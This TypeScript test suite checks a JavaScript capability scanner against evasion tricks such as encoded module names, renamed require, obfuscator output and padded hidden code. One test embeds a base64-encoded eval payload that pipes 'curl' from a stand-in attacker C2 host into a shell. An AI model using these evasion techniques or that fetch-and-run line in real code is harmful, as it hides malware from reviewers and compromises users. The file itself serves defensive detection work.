// One test per evasion trick of CAPABILITIES.md: each hides a capability from a naive scanner; the
// analyzer must still report the real capability (and obfuscation where decoding was needed).
import { scanSource } from './scan';
import { DETECTORS } from './detectors/index';
import type { CapabilityId } from './types';

function capsOf(code: string): Set<CapabilityId> {
  return new Set(scanSource('index.js', code, DETECTORS).hits.map((h) => h.capability));
}

function expectCaps(code: string, present: readonly CapabilityId[], absent: readonly CapabilityId[] = []): void {
  const caps = capsOf(code);
  for (const c of present) expect([...caps]).toContain(c);
  for (const c of absent) expect([...caps]).not.toContain(c);
}

const b64 = (s: string): string => Buffer.from(s).toString('base64');

describe('evasions', () => {
  it('renamed require: reported as dynamic-require, and the module it loads is still resolved', () => {
    expectCaps('const r = require; r("child_process").exec("id")', ['dynamic-require', 'child-process']);
  });

  it('require passed into a wrapper', () => {
    expectCaps('(function (req) { req("child_process") })(require)', ['dynamic-require']);
  });

  it("computed global access that folds: global['req' + 'uire']", () => {
    expectCaps('global["req" + "uire"]("child_process").exec("id")', ['child-process', 'obfuscation']);
  });

  it('computed global access that does not fold', () => {
    expectCaps('globalThis[name]("x")', ['dynamic-require']);
  });

  it('module.constructor._load', () => {
    expectCaps('module.constructor._load("child_process").execSync("id")', ['module-internals', 'child-process']);
  });

  it('process.mainModule.require', () => {
    expectCaps('process.mainModule.require("child_process").exec("id")', ['module-internals', 'child-process']);
  });

  it("process.binding('spawn_sync')", () => {
    expectCaps('process.binding("spawn_sync").spawn({ file: "/bin/sh" })', ['process-internals', 'child-process']);
  });

  it('new Function', () => {
    expectCaps('new Function("return process")()', ['code-eval']);
  });

  it('vm', () => {
    expectCaps('require("node:vm").runInNewContext(src, {})', ['code-eval']);
  });

  it('escapes in module names', () => {
    expectCaps('require("\\x63hild_process").exec("id")', ['child-process', 'obfuscation']);
  });

  it('escapes in identifiers', () => {
    expectCaps('\\u0065val("1")', ['code-eval', 'obfuscation']);
  });

  it('code hidden after long whitespace padding', () => {
    expectCaps('module.exports = {};' + ' '.repeat(300) + 'require("child_process").exec("id")', ['child-process', 'obfuscation']);
  });

  it.each([
    ['concatenation', '"chi" + "ld_process"'],
    ['template literal', '`chi${"ld"}_process`'],
    ['String.fromCharCode', 'String.fromCharCode(99,104,105,108,100,95,112,114,111,99,101,115,115)'],
    ['array join', '["c","h","i","l","d","_","p","r","o","c","e","s","s"].join("")'],
    ['reversed string', '"ssecorp_dlihc".split("").reverse().join("")'],
    ['base64 Buffer', `Buffer.from("${b64('child_process')}", "base64").toString()`],
    ['atob', `atob("${b64('child_process')}")`],
    ['hex through a helper function', `((h) => Buffer.from(h, "hex").toString())("${Buffer.from('child_process').toString('hex')}")`],
  ])('folded specifier (%s) records the real capability and obfuscation', (_name, expr) => {
    expectCaps(`require(${expr}).exec("id")`, ['child-process', 'obfuscation'], ['dynamic-require']);
  });

  it('a folded constant kept in a variable', () => {
    expectCaps('const m = "chi" + "ld_process"; require(m).exec("id")', ['child-process', 'obfuscation'], ['dynamic-require']);
  });

  it('an unfoldable specifier is a dynamic require', () => {
    expectCaps('require(process.argv[2])', ['dynamic-require']);
  });

  it('import() with a folded specifier', () => {
    expectCaps('import("node:" + "child_process").then((m) => m.exec("id"))', ['child-process', 'obfuscation']);
  });

  it('createRequire', () => {
    expectCaps('import { createRequire } from "node:module"; const req = createRequire(import.meta.url); req("child_process").exec("id")', ['child-process'], ['module-internals']);
  });

  it('export ... from', () => {
    expectCaps('export { exec } from "node:child_process"', ['child-process']);
  });

  it('aliases used in later top-level statements are followed (the prefilter keeps them)', () => {
    expectCaps('const fs = require("fs");\nconst unrelated = 1;\nfunction save(p) { return fs.writeFileSync(p, "x") }\nmodule.exports = save;', ['fs-write']);
    expectCaps('const m = module;\nconst a = [1, 2];\nm.constructor._load("x");', ['module-internals']);
    expectCaps('let e;\ne = process.env;\nconst k = Object.keys(e);', ['env-enumerate']);
  });

  it('an encoded blob in one statement and a sink in another are paired', () => {
    const blob = Buffer.from(Array.from({ length: 900 }, (_, i) => (i * 7919) % 251)).toString('base64');
    expectCaps(`const payload = "${blob}";\nconst x = 1;\neval(decode(payload));`, ['obfuscation', 'code-eval']);
  });

  it('shadowed names are not findings', () => {
    expectCaps('function f(require, eval, fetch, process) { require("child_process"); eval("x"); fetch("u"); process.env.X }', [], ['child-process', 'code-eval', 'network', 'env-read']);
  });

  it('decode-then-eval payloads are re-parsed and their capabilities added', () => {
    expectCaps(`eval(atob("${b64('require("child_process").exec("curl -s https://c2.attacker.tld | sh")')}"))`, ['code-eval', 'child-process', 'obfuscation', 'url-literals']);
  });

  it('javascript-obfuscator output (string array, rotator, _0x names, while(!![]))', () => {
    const code = "var _0x1a2b=['exec','child_process'];(function(_0x3c4d,_0x5e6f){while(!![]){try{_0x3c4d['push'](_0x3c4d['shift']());break;}catch(_0x7a8b){}}}(_0x1a2b,0x12));var _0x9c0d=function(_0xa1b2){return _0x1a2b[_0xa1b2];};require(_0x9c0d(1))[_0x9c0d(0)]('id');";
    expectCaps(code, ['obfuscation']);
  });

  it('deeply nested code does not crash the process: a finding and a lexical fallback', () => {
    const code = 'require("child_process");' + 'x=' + '['.repeat(20000) + ']'.repeat(20000) + ';';
    const scan = scanSource('deep.js', code, DETECTORS);
    expect(scan.findings.map((f) => f.ruleId)).toContain('source/too-deep');
    expect(scan.hits.map((h) => h.capability)).toEqual(expect.arrayContaining(['child-process', 'obfuscation']));
  });

  it('a long binary chain that overflows the traversal is handled the same way', () => {
    const code = 'fetch("https://x.tld/");\nvar s = "a"' + ' + "a"'.repeat(30000) + ';';
    const scan = scanSource('chain.js', code, DETECTORS);
    expect(scan.hits.map((h) => h.capability)).toContain('network');
  });

  it('a huge single-line minified file is analyzed', () => {
 const unit = (i: number): string => `function a${i}(b){return b&&b.c?b.c(1):null}var d${i}=[1,2,3].map(function(e){return e*2});`;
    const code = Array.from({ length: 3000 }, (_, i) => unit(i)).join('') + 'require("https").get("https://api.service.tld/v1")';
    const scan = scanSource('big.min.js', code, DETECTORS);
    const caps = new Set(scan.hits.map((h) => h.capability));
    expect(caps.has('network')).toBe(true);
    expect(caps.has('obfuscation')).toBe(false);
    for (const h of scan.hits) expect(h.snippet.length).toBeLessThanOrEqual(120);
  });
});
